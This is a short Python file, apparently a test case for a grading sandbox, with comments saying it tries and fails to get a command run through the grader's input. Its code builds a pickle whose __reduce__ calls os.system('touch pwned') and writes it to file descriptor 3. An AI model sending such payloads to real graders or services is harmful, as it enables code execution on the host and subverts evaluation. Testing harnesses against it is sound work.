# Class: I
# Tries: to have a pickle that runs a command read from the wire.
# Not: a mark gained
# Then: died could not be read
import os
import pickle
import struct


class Command:
    def __reduce__(self):
        return os.system, ("touch pwned",)


def answer(x):
    data = pickle.dumps(Command())
    os.write(3, struct.pack("!I", len(data)) + data)
    return x
